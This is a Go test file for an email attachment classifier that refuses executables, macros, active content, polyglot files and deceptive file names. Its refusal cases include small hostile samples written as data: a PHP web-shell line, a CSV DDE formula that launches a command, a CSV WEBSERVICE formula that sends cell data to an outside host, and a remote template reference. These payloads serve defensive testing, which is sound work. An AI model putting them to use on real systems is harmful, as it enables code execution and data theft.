package attach_test

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"mailgap/sendmail/attach"
)

func pdf(extra string) []byte {
	return []byte("%PDF-1.7\n1 0 obj <</Type/Catalog " + extra + ">> endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
}

func picture(t testing.TB, format string) []byte {
	t.Helper()
	var b bytes.Buffer
	m := image.NewPaletted(image.Rect(0, 0, 4, 4), color.Palette{color.Black, color.White})
	var err error
	switch format {
	case "png":
		err = png.Encode(&b, m)
	case "gif":
		err = gif.Encode(&b, m, nil)
	default:
		err = jpeg.Encode(&b, m, nil)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

type entry struct{ name, content string }

func archive(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if e.name == "mimetype" {
			h.Method = zip.Store
			h.CRC32, h.UncompressedSize64, h.CompressedSize64 = crc32.ChecksumIEEE([]byte(e.content)), uint64(len(e.content)), uint64(len(e.content))
			raw, err := w.CreateRaw(h)
			if err != nil {
				t.Fatal(err)
			}
			raw.Write([]byte(e.content))
			continue
		}
		f, err := w.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(e.content))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// encrypted sets the flag for encryption in the local header and in the directory of an archive with one entry.
func encrypted(b []byte) []byte {
	b[6] |= 1
	b[bytes.Index(b, []byte("PK\x01\x02"))+8] |= 1
	return b
}

func contentTypes(main string) entry {
	return entry{"[Content_Types].xml", `<?xml version="1.0"?><Types><Override PartName="/main.xml" ContentType="application/vnd.` + main + `.main+xml"/></Types>`}
}

const (
	docxMain = "openxmlformats-officedocument.wordprocessingml.document"
	xlsxMain = "openxmlformats-officedocument.spreadsheetml.sheet"
	pptxMain = "openxmlformats-officedocument.presentationml.presentation"
)

func docx(t testing.TB, more ...entry) []byte {
	return archive(t, append([]entry{contentTypes(docxMain), {"word/document.xml", "<w:document/>"}}, more...)...)
}

func ole(names ...string) []byte {
	b := []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + strings.Repeat("\x00", 504))
	for _, n := range names {
		for _, u := range utf16.Encode([]rune(n + "\x00")) {
			b = binary.LittleEndian.AppendUint16(b, u)
		}
		b = append(b, make([]byte, 64)...)
	}
	return b
}

func pe() []byte {
	b := make([]byte, 256)
	copy(b, "MZ\x90\x00")
	binary.LittleEndian.PutUint32(b[0x3C:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	return b
}

func mailWith(name, mediaType string, octets []byte) []byte {
	return []byte("From: a@example.com\r\nDate: Mon, 02 Jan 2006 15:04:05 +0000\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/html\r\n\r\n<html><script>1</script></html>\r\n--b\r\nContent-Type: " + mediaType + "; name=\"" + name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString(octets) + "\r\n--b--\r\n")
}

func nestedMultiparts(levels int, octets []byte) []byte {
	b := "From: a@example.com\r\nSubject: x\r\n"
	for k := range levels {
		b += fmt.Sprintf("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", k, k)
	}
	b += "Content-Type: application/octet-stream; name=a.txt\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(octets) + "\r\n"
	for k := levels - 1; k >= 0; k-- {
		b += fmt.Sprintf("--b%d--\r\n", k)
	}
	return []byte(b)
}

func webp() []byte { return []byte("RIFF\x24\x00\x00\x00WEBPVP8 " + strings.Repeat("\x00", 24)) }

func TestClassifyAccepts(t *testing.T) {
	tests := []struct {
		name, file, declared string
		octets               []byte
		want                 string
	}{
		{"pdf", "a.pdf", "application/pdf", pdf("ok"), "application/pdf"},
		{"pdf with an embedded invoice", "a.pdf", "", pdf("/Names<</EmbeddedFiles 2 0 R>>"), "application/pdf"},
		{"pdf in capitals", "A.PDF", "", pdf("ok"), "application/pdf"},
		{"png", "a.png", "image/png", picture(t, "png"), "image/png"},
		{"gif", "a.gif", "", picture(t, "gif"), "image/gif"},
		{"jpeg", "a.jpeg", "", picture(t, "jpeg"), "image/jpeg"},
		{"jpg", "a.jpg", "", picture(t, "jpeg"), "image/jpeg"},
		{"webp", "a.webp", "", webp(), "image/webp"},
		{"text", "a.txt", "text/plain", []byte("Grüße\r\n"), "text/plain"},
		{"text that begins with MZ", "a.txt", "", []byte("MZ is a brand of motorcycles, made in Zschopau for a long time\n"), "text/plain"},
		{"text about PDF", "a.txt", "", []byte("the file starts with %PDF-1.7 and <html> is mentioned\n"), "text/plain"},
		{"text in UTF-16", "a.txt", "", []byte("\xff\xfeh\x00i\x00\n\x00"), "text/plain"},
		{"text in Latin-1", "a.txt", "", []byte("Gr\xfc\xdfe\n"), "text/plain"},
		{"csv", "a.csv", "", []byte("name,amount\nrent,-100\nsum,=A1+B1\n"), "text/csv"},
		{"ics", "a.ics", "", []byte("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"), "text/calendar"},
		{"vcf", "a.vcf", "", []byte("BEGIN:VCARD\r\nEND:VCARD\r\n"), "text/vcard"},
		{"docx", "a.docx", "", docx(t), "application/vnd." + docxMain},
		{"docx with a link, a picture and printer settings", "a.docx", "", docx(t, entry{"word/_rels/document.xml.rels", `<Relationships><Relationship Type="x/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>`},
			entry{"word/media/image1.svg", "<svg/>"}, entry{"word/printerSettings/printerSettings1.bin", "\x01\x02"}), "application/vnd." + docxMain},
		{"docx with a chart's workbook", "a.docx", "", docx(t, entry{"word/embeddings/sheet.xlsx", string(archive(t, contentTypes(xlsxMain)))}), "application/vnd." + docxMain},
		{"xlsx", "a.xlsx", "", archive(t, contentTypes(xlsxMain)), "application/vnd." + xlsxMain},
		{"pptx", "a.pptx", "", archive(t, contentTypes(pptxMain)), "application/vnd." + pptxMain},
		{"odt", "a.odt", "", archive(t, entry{"mimetype", "application/vnd.oasis.opendocument.text"}, entry{"content.xml", "<x/>"}), "application/vnd.oasis.opendocument.text"},
		{"eml", "a.eml", "", mailWith("a.pdf", "application/pdf", pdf("ok")), "message/rfc822"},
		{"eml with multiparts in multiparts", "a.eml", "", nestedMultiparts(5, []byte("hello")), "message/rfc822"},
		{"two extensions of documents", "report.docx.pdf", "", pdf("ok"), "application/pdf"},
		{"host name as a name", "www.example.com.pdf", "", pdf("ok"), "application/pdf"},
		{"Arabic name", "تقرير.pdf", "", pdf("ok"), "application/pdf"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := attach.Classify(tc.file, tc.declared, tc.octets, attach.Types{})
			if err != nil || got != tc.want {
				t.Errorf("got %q %v, want %q", got, err, tc.want)
			}
		})
	}
}

func TestClassifyRefuses(t *testing.T) {
	png := picture(t, "png")
	pad := func(s string) []byte { return []byte(s + strings.Repeat("\x00", 64)) }
	tests := []struct {
		name, file, declared string
		octets               []byte
		want                 error
	}{
		// programs, under names that say something else
		{"PE", "a.pdf", "", pe(), attach.ErrExecutable},
		{"PE by its name", "setup.exe", "", []byte("x"), attach.ErrExecutable},
		{"ELF", "a.png", "", pad("\x7fELF\x02\x01\x01"), attach.ErrExecutable},
		{"Mach-O 32", "a.txt", "", pad("\xce\xfa\xed\xfe"), attach.ErrExecutable},
		{"Mach-O 64", "a.txt", "", pad("\xcf\xfa\xed\xfe"), attach.ErrExecutable},
		{"Mach-O 32 big-endian", "a.txt", "", pad("\xfe\xed\xfa\xce"), attach.ErrExecutable},
		{"Mach-O 64 big-endian", "a.txt", "", pad("\xfe\xed\xfa\xcf"), attach.ErrExecutable},
		{"Mach-O fat and Java class", "a.txt", "", pad("\xca\xfe\xba\xbe"), attach.ErrExecutable},
		{"Mach-O fat 64", "a.txt", "", pad("\xca\xfe\xba\xbf"), attach.ErrExecutable},
		{"Mach-O fat little-endian", "a.txt", "", pad("\xbe\xba\xfe\xca"), attach.ErrExecutable},
		{"Mach-O fat 64 little-endian", "a.txt", "", pad("\xbf\xba\xfe\xca"), attach.ErrExecutable},
		{"WASM", "a.pdf", "", pad("\x00asm\x01"), attach.ErrExecutable},
		{"DEX", "a.pdf", "", pad("dex\n035"), attach.ErrExecutable},
		{"script", "a.txt", "", []byte("#!/bin/sh\nid\n"), attach.ErrExecutable},
		{"script behind a byte order mark", "a.txt", "", []byte("\xef\xbb\xbf#!/bin/sh\n"), attach.ErrExecutable},
		{"shell link", "a.pdf", "", pad("L\x00\x00\x00\x01\x14\x02\x00"), attach.ErrExecutable},
		{"deb", "a.pdf", "", pad("!<arch>\ndebian-binary"), attach.ErrExecutable},
		{"rpm", "a.pdf", "", pad("\xed\xab\xee\xdb"), attach.ErrExecutable},
		{"macOS package", "a.pdf", "", pad("xar!"), attach.ErrExecutable},
		{"cabinet", "a.pdf", "", pad("MSCF"), attach.ErrExecutable},
		{"CHM", "a.pdf", "", pad("ITSF"), attach.ErrExecutable},
		{"compiled AppleScript", "a.pdf", "", pad("FasdUAS 1.101.10"), attach.ErrExecutable},
		{"compiled Python", "a.pdf", "", pad("\xa7\x0d\x0d\x0a"), attach.ErrExecutable},
		{"registry file", "a.txt", "", []byte("Windows Registry Editor Version 5.00\r\n"), attach.ErrExecutable},
		{"PHP", "a.txt", "", []byte("<?php system($_GET[1]);"), attach.ErrExecutable},
		{"MSI", "a.pdf", "", append(ole("x"), "\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"...), attach.ErrExecutable},
		{"JAR", "a.zip", "", archive(t, entry{"META-INF/MANIFEST.MF", "Main-Class: x"}), attach.ErrExecutable},
		{"program in an archive", "a.zip", "", archive(t, entry{"read.me", string(pe())}), attach.ErrExecutable},
		{"program in an archive by name", "a.zip", "", archive(t, entry{"a/setup.EXE", "x"}), attach.ErrExecutable},
		{"program in an archive in an archive", "a.zip", "", archive(t, entry{"b.zip", string(archive(t, entry{"x", string(pe())}))}), attach.ErrExecutable},
		{"program in a mail", "a.eml", "", mailWith("x.pdf", "application/pdf", pe()), attach.ErrExecutable},
		{"program in a mail by name", "a.eml", "", mailWith("x.js", "text/plain", []byte("x")), attach.ErrExecutable},
		{"program in a mail by an encoded name", "a.eml", "", mailWith("=?utf-8?B?eC5leGU=?=", "application/pdf", []byte("x")), attach.ErrExecutable},
		{"program below multiparts in multiparts", "a.eml", "", nestedMultiparts(5, pe()), attach.ErrExecutable},
		{"program as a mail's own text", "a.eml", "", []byte("From: a@example.com\r\nSubject: x\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(pe()) + "\r\n"), attach.ErrExecutable},
		{"multiparts without end", "a.eml", "", nestedMultiparts(50, []byte("hello")), attach.ErrTypeRefused},
		{"PE behind a picture", "a.png", "", slices.Concat(png, pe()), attach.ErrPolyglot},
		// macros
		{"VBA in OLE", "a.doc", "", ole("WordDocument", "_VBA_PROJECT"), attach.ErrMacros},
		{"embedded program in OLE", "a.doc", "", ole("WordDocument", "\x01Ole10Native"), attach.ErrMacros},
		{"docm under docx", "a.docx", "", archive(t, entry{"[Content_Types].xml", `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`}), attach.ErrMacros},
		{"VBA project in docx", "a.docx", "", docx(t, entry{"word/vbaProject.bin", "x"}), attach.ErrMacros},
		{"embedded OLE object", "a.docx", "", docx(t, entry{"word/embeddings/oleObject1.bin", "x"}), attach.ErrMacros},
		{"OLE object under another name", "a.docx", "", docx(t, entry{"word/embeddings/x.dat", string(ole("x"))}), attach.ErrExecutable},
		{"ActiveX", "a.docx", "", docx(t, entry{"word/activeX/activeX1.xml", "x"}), attach.ErrMacros},
		{"Excel 4 macro sheet", "a.xlsx", "", archive(t, contentTypes(xlsxMain), entry{"xl/macrosheets/sheet1.xml", "x"}), attach.ErrMacros},
		{"macro workbook inside docx", "a.docx", "", docx(t, entry{"word/embeddings/s.xlsx", string(archive(t, contentTypes(xlsxMain), entry{"xl/vbaProject.bin", "x"}))}), attach.ErrMacros},
		{"Basic in odt", "a.odt", "", archive(t, entry{"mimetype", "application/vnd.oasis.opendocument.text"}, entry{"Basic/Standard/Module1.xml", "x"}), attach.ErrMacros},
		{"docm by its name", "a.docm", "", docx(t), attach.ErrMacros},
		// active content
		{"remote template", "a.docx", "", docx(t, entry{"word/_rels/settings.xml.rels", `<Relationship Type="http://x/attachedTemplate" Target="https://example.net/t.dotm" TargetMode="External"/>`}), attach.ErrActiveContent},
		{"DDE field", "a.docx", "", docx(t, entry{"word/footer1.xml", `<w:instrText>DDEAUTO c:\\x</w:instrText>`}), attach.ErrActiveContent},
		{"HTML", "a.txt", "", []byte("\r\n  <!DOCTYPE html><script>1</script>"), attach.ErrActiveContent},
		{"HTML in UTF-16", "a.txt", "", []byte("\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00"), attach.ErrActiveContent},
		{"HTML by its name", "a.html", "", []byte("hello"), attach.ErrActiveContent},
		{"SVG", "a.png", "", []byte("<svg xmlns='x'><script/></svg>"), attach.ErrActiveContent},
		{"URL file", "a.txt", "", []byte("[InternetShortcut]\r\nURL=file://x\r\n"), attach.ErrActiveContent},
		{"desktop file", "a.txt", "", []byte("[Desktop Entry]\nExec=sh\n"), attach.ErrActiveContent},
		{"HTA by its name", "a.hta", "", []byte("x"), attach.ErrActiveContent},
		{"PDF with a script", "a.pdf", "", pdf("/OpenAction<</S/JavaScript/JS(x)>>"), attach.ErrActiveContent},
		{"PDF with a script in hex", "a.pdf", "", pdf("/OpenAction<</S/J#61vaScript>>"), attach.ErrActiveContent},
		{"PDF that starts a program", "a.pdf", "", pdf("/A<</S/Launch/F(x)>>"), attach.ErrActiveContent},
		{"CSV with DDE", "a.csv", "", []byte("a,b\n=cmd|' /C calc'!A0,1\n"), attach.ErrActiveContent},
		{"CSV that sends itself away", "a.csv", "", []byte("a,=WEBSERVICE(\"https://example.net/?\"&A1)\n"), attach.ErrActiveContent},
		{"archive that leaves its directory", "a.zip", "", archive(t, entry{"../../x.txt", "x"}), attach.ErrActiveContent},
		// two types at once
		{"PDF and ZIP", "a.pdf", "", slices.Concat(pdf("ok"), archive(t, entry{"x.txt", "x"})), attach.ErrPolyglot},
		{"GIF and JAR", "a.gif", "", slices.Concat(picture(t, "gif"), archive(t, entry{"x.txt", "x"})), attach.ErrPolyglot},
		{"PDF inside a picture's head", "a.jpg", "", func() []byte {
			b := picture(t, "jpeg")
			return slices.Concat(b[:2], []byte("\xff\xfe\x00\x0c%PDF-1.7\n\n"), b[2:])
		}(), attach.ErrPolyglot},
		{"script inside a picture's head", "a.jpg", "", func() []byte {
			b := picture(t, "jpeg")
			return slices.Concat(b[:2], []byte("\xff\xfe\x00\x0c<script>\n\n"), b[2:])
		}(), attach.ErrPolyglot},
		{"archive with something behind it", "a.docx", "", append(docx(t), "tail"...), attach.ErrPolyglot},
		// disagreement
		{"png called pdf", "a.pdf", "", png, attach.ErrTypeMismatch},
		{"pdf called png", "a.png", "", pdf("ok"), attach.ErrTypeMismatch},
		{"png called jpg", "a.jpg", "", png, attach.ErrTypeMismatch},
		{"docx called xlsx", "a.xlsx", "", docx(t), attach.ErrTypeMismatch},
		{"plain archive called docx", "a.docx", "", archive(t, entry{"x.txt", "x"}), attach.ErrTypeMismatch},
		{"binary called txt", "a.txt", "", []byte("abc\x00def"), attach.ErrTypeMismatch},
		{"text called ics", "a.ics", "", []byte("hello\n"), attach.ErrTypeMismatch},
		{"text called eml", "a.eml", "", []byte("hello\n"), attach.ErrTypeMismatch},
		{"declared type", "a.pdf", "text/plain", pdf("ok"), attach.ErrTypeMismatch},
		{"PDF behind rubbish", "a.pdf", "", append([]byte("rubbish\n"), pdf("ok")...), attach.ErrTypeMismatch},
		// list and names
		{"no extension", "README", "", []byte("hello\n"), attach.ErrTypeUnknown},
		{"unknown extension", "a.xyz", "", []byte("hello\n"), attach.ErrTypeUnknown},
		{"zip is not on the list", "a.zip", "", archive(t, entry{"x.txt", "x"}), attach.ErrTypeRefused},
		{"doc is not on the list", "a.doc", "", ole("WordDocument"), attach.ErrTypeRefused},
		{"program's extension inside", "invoice.exe.pdf", "", pdf("ok"), attach.ErrDeceptiveName},
		{"run of spaces", "invoice.pdf          .txt", "", []byte("x"), attach.ErrDeceptiveName},
		{"direction override", "a\u202efdp.txt", "", []byte("x"), attach.ErrDeceptiveName},
		{"isolate", "a\u2066b.txt", "", []byte("x"), attach.ErrDeceptiveName},
		{"dot that is none", "a․pdf.txt", "", []byte("x"), attach.ErrDeceptiveName},
		{"encoded-word", "=?utf-8?q?a?=.txt", "", []byte("x"), attach.ErrDeceptiveName},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := attach.Classify(tc.file, tc.declared, tc.octets, attach.Types{})
			if !errors.Is(err, tc.want) || got != "" {
				t.Errorf("got %q %v, want %v", got, err, tc.want)
			}
		})
	}
}

func TestParseTypes(t *testing.T) {
	types, err := attach.ParseTypes([]string{" ZIP ", ".jpg", "doc"})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := types.Extensions(), []string{"doc", "jpeg", "jpg", "zip"}; !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	for file, octets := range map[string][]byte{"a.zip": archive(t, entry{"x.txt", "x"}), "a.doc": ole("WordDocument")} {
		if _, err := attach.Classify(file, "", octets, types); err != nil {
			t.Errorf("%s: %v", file, err)
		}
	}
	if _, err := attach.Classify("a.pdf", "", pdf("ok"), types); !errors.Is(err, attach.ErrTypeRefused) {
		t.Errorf("pdf: got %v", err)
	}
	if _, err := attach.Classify("a.zip", "", docx(t), types); !errors.Is(err, attach.ErrTypeMismatch) {
		t.Errorf("docx called zip: got %v", err)
	}
	deep := archive(t, entry{"x.txt", "x"})
	for range 4 {
		deep = archive(t, entry{"b.zip", string(deep)})
	}
	for name, octets := range map[string][]byte{
		"encrypted": encrypted(archive(t, entry{"x.txt", "x"})), "too deep": deep,
		"archive under another name inside": archive(t, entry{"b.dat", string(archive(t, entry{"x.txt", "x"}))}),
	} {
		if _, err := attach.Classify("a.zip", "", octets, types); !errors.Is(err, attach.ErrTypeRefused) {
			t.Errorf("%s: got %v, want %v", name, err, attach.ErrTypeRefused)
		}
	}
	for _, bad := range []string{"exe", "html", "*", "", "docm", "secretword"} {
		_, err := attach.ParseTypes([]string{"pdf", bad})
		if !errors.Is(err, attach.ErrTypes) || !strings.Contains(err.Error(), "entry 2 of 2") || bad == "secretword" && strings.Contains(err.Error(), bad) {
			t.Errorf("%q: got %v", bad, err)
		}
	}
	if got := (attach.Types{}).Extensions(); slices.Contains(got, "zip") || !slices.Contains(got, "pdf") || len(got) != 17 {
		t.Errorf("default list: %v", got)
	}
}

func FuzzClassify(f *testing.F) {
	for _, s := range [][]byte{pdf("ok"), pe(), webp(), docx(f), ole("WordDocument"), picture(f, "gif"), picture(f, "jpeg"), mailWith("a.pdf", "application/pdf", pe()), []byte("hello\n")} {
		f.Add(s)
	}
	all, err := attach.ParseTypes([]string{"pdf", "png", "jpg", "gif", "webp", "txt", "csv", "ics", "vcf", "docx", "xlsx", "pptx", "odt", "ods", "odp", "eml", "zip", "doc", "json"})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		families := map[string]bool{}
		for _, ext := range []string{"pdf", "png", "jpg", "gif", "webp", "txt", "csv", "eml", "docx", "xlsx", "zip", "doc"} {
			mediaType, err := attach.Classify("file."+ext, "", b, all)
			if (err == nil) != (mediaType != "") {
				t.Fatalf("%s: %q %v", ext, mediaType, err)
			}
			if err != nil {
				continue
			}
			family := ext
			if ext == "csv" || ext == "eml" {
				family = "txt"
			}
			families[family] = true
			if bytes.HasPrefix(b, []byte("\x7fELF")) || bytes.HasPrefix(b, []byte("#!")) {
				t.Fatalf("%s: a program passed", ext)
			}
		}
		if len(families) > 1 {
			t.Fatalf("one content passes as %v", families)
		}
	})
}
